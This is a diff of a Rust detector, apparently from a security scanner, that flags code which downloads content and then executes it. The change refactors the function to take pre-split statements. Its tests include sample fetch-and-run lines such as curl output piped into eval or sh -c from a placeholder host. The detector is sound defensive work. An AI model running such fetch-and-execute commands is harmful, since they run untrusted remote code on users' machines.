@@ -21,16 +21,18 @@ re!(
 );
 
 /// Where fetched code is run: (the line that fetched it, the line that runs it), the first such pair.
-pub(super) fn fetched_and_run(code: &str, first_line: u32) -> Option<(u32, u32)> {
+/// Reads code already split into its statements ([`super::flow::statements`]).
+pub(super) fn fetched_and_run(statements: &[(u32, String)], first_line: u32) -> Option<(u32, u32)> {
     let mut fetched: Vec<(String, u32)> = Vec::new();
-    for (offset, line) in super::flow::statements(code) {
+    for (offset, line) in statements {
         let n = first_line + offset;
+        let line = line.as_str();
         // Fetched and run in one chain: `fetch(u).then(r => r.text()).then(eval)`.
-        if FETCH.is_match(&line) && THEN_RUNS.is_match(&line) {
+        if FETCH.is_match(line) && THEN_RUNS.is_match(line) {
             return Some((n, n));
         }
         let runs = RUNS_NAME
-            .captures_iter(&line)
+            .captures_iter(line)
             .filter_map(|c| c.get(1).or_else(|| c.get(2)))
             .find_map(|name| {
                 fetched
@@ -41,7 +43,7 @@ pub(super) fn fetched_and_run(code: &str, first_line: u32) -> Option<(u32, u32)>
         if let Some(from) = runs {
             return Some((from, n));
         }
-        if let Some(c) = super::flow::ASSIGN.captures(&line) {
+        if let Some(c) = super::flow::ASSIGN.captures(line) {
             // What follows the name's `=`.
             let name_end = c.get(1).map_or(0, |m| m.end());
             let rhs = line[name_end..].split_once('=').map_or("", |(_, rhs)| rhs);
@@ -78,7 +80,7 @@ mod tests {
             ("P=$(curl -fsSL https://x.example/p)\neval \"$P\"\n", Some((1, 2))),
             ("P=$(curl -fsSL https://x.example/p)\nsh -c \"$P\"\n", Some((1, 2))),
         ] {
-            assert_eq!(fetched_and_run(code, 1), want, "{code}");
+            assert_eq!(fetched_and_run(&super::super::flow::statements(code), 1), want, "{code}");
         }
         // Fetched data parsed, and code run that did not come from the network.
         for code in [
@@ -87,7 +89,7 @@ mod tests {
             "const r = await fetch(u);\nconst j = await r.json();\nconsole.log(j);\n",
             "V=$(curl -s https://x.example/version)\necho \"$V\"\n",
         ] {
-            assert_eq!(fetched_and_run(code, 1), None, "{code}");
+            assert_eq!(fetched_and_run(&super::super::flow::statements(code), 1), None, "{code}");
         }
     }
 }
